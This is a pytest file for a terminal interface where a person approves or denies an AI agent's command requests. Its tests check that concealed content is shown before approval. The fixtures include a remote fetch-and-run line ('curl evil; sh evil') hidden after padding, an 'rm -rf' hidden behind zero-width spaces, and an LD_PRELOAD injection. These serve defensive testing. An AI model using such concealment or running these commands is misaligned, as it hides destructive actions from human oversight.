"""What a person sees of an agent's request in `uwf top` before a digit decides it."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import pytest
from acp_steps import Scripted
from commands import begin, wait_until
from conftest import Uwf
from full_screen import FullScreen, full_screen

from uwf_git.store.instance import Instance

pytest.importorskip("textual", reason="pip install '.[top]'")

END = "\x1b[F"
LONG = "echo ok\n" * 60 + "curl evil; sh evil"
Asks = Callable[..., Scripted]


def call(kind: str, title: str, **more: object) -> str:
    return f"call={json.dumps({'kind': kind, 'title': title, **more})}"


def command(text: str, **more: object) -> str:
    return call("execute", "run", rawInput={"command": text, **more})


@pytest.fixture
def asks(instance: Instance) -> Iterator[Asks]:
    """Starts an agent that asks leave for calls."""
    processes: list[subprocess.Popen[str]] = []

    def make(*calls: str) -> Scripted:
        steps = Scripted(instance.location.root, "ask:" + "|".join(calls), more="permissionWait: 1h\n")
        processes.append(begin("thread", "step", steps.thread))
        return steps

    yield make
    for process in processes:
        process.kill()
        process.communicate(timeout=60)


def decided(steps: Scripted) -> list[str]:
    return [value for _, value in steps.noted("permission")]


def ends(steps: Scripted, screen: FullScreen, *decisions: str) -> None:
    screen.wait(lambda text: "ask you" not in text)
    wait_until(lambda: decided(steps) == [*decisions], f"{decisions} were made")


@contextmanager
def denied_elsewhere(uwf: Uwf, steps: Scripted, columns: int, rows: int) -> Iterator[FullScreen]:
    """A screen with a request that another command has just denied; the agent asks for leave again."""
    with full_screen("top", columns=columns, rows=rows) as screen:
        screen.wait("1 ask you")
        if columns < 120:
            screen.press("1")
        screen.wait(lambda text: "execute: make test" in text and "1  allow" in text)
        (request,) = uwf("thread", "show", steps.thread).json["permissions"]
        uwf(*request["commands"]["deny"].split()[1:])
        yield screen


SIZES = pytest.mark.parametrize(("columns", "rows"), [(160, 50), (80, 24)])


@SIZES
def test_a_request_that_replaced_another_is_not_allowed_by_the_digit_for_that(
    uwf: Uwf, asks: Asks, columns: int, rows: int
) -> None:
    steps = asks(command("make test"), command("rm -r build"))
    with denied_elsewhere(uwf, steps, columns, rows) as screen:
        screen.wait(lambda text: "execute: rm -r build" in text and "another question is asked here" in text)
        screen.press("11")
        screen.wait("ignored: 1, another question is asked now")
        screen.rest(1.2)
        assert decided(steps) == ["reject_once"]
        screen.press("1")
        ends(steps, screen, "reject_once", "allow_once")


@SIZES
def test_a_digit_that_came_too_late_lets_none_allow_what_is_asked_next(
    uwf: Uwf, asks: Asks, columns: int, rows: int
) -> None:
    steps = asks(command("make test"), command("rm -r build"))
    with denied_elsewhere(uwf, steps, columns, rows) as screen:
        screen.press("1")
        screen.wait("execute: rm -r build")
        screen.press("1")
        screen.wait("ignored: 1, another question is asked now")
        assert decided(steps) == ["reject_once"]


def test_a_request_is_allowed_once_its_end_was_on_the_screen(asks: Asks) -> None:
    steps = asks(command(LONG))
    with full_screen("top", columns=80, rows=24) as screen:
        screen.wait("1 ask you")
        screen.press("1")
        screen.wait(lambda text: "echo ok" in text and "more below: End shows it" in text)
        screen.press("1")
        screen.wait("ignored: 1, more below: End shows it")
        screen.press("a")
        screen.wait("the number of an option")
        screen.press("1", "\r")
        screen.wait("ignored: an answer, more below")
        screen.press(END)
        screen.wait(lambda text: "curl evil; sh evil" in text and "1  allow" in text)
        assert decided(steps) == []
        screen.press("1")
        ends(steps, screen, "allow_once")


def test_beside_the_list_a_digit_opens_a_request_that_is_longer_than_its_place(asks: Asks) -> None:
    steps = asks(command(LONG))
    with full_screen("top", columns=160, rows=24) as screen:
        screen.wait(lambda text: "echo ok" in text and "more below: a digit opens it" in text)
        screen.press("2")
        screen.wait("ignored: 2, more below: End shows it")
        screen.press(END)
        screen.wait("2  deny")
        screen.press("2")
        ends(steps, screen, "reject_once")


@pytest.mark.parametrize(("columns", "rows"), [(160, 50), (80, 24), (60, 24)])
def test_no_character_of_a_request_is_hidden(asks: Asks, columns: int, rows: int) -> None:
    hidden = "echo a" + "\u200b" * 50 + "; rm -rf b"
    value = {"env": {"LD_PRELOAD": "/tmp/x.so"}, "cwd": "/elsewhere", "note": "one\rtwo\nthree"}
    asks(command(hidden, **value))
    with full_screen("top", columns=columns, rows=rows) as screen:
        screen.wait("1 ask you")
        if columns < 120:
            screen.press("1")
        screen.wait("worker asks you")
        screen.press(END)
        screen.wait("2  deny")
        shown = "".join(line.partition("│")[2] if columns >= 120 else line for line in screen.lines)
        shown = "".join(shown.replace("… ", "").split())
        assert "echoa" + "\\u200b" * 50 + ";rm-rfb" in shown
        assert "env.LD_PRELOAD:/tmp/x.so" in shown and "cwd:/elsewhere" in shown
        assert "note:one\\x0dtwothree" in shown and not any(
            "two" in line and "three" in line for line in screen.lines
        )
        assert "always" not in screen.text
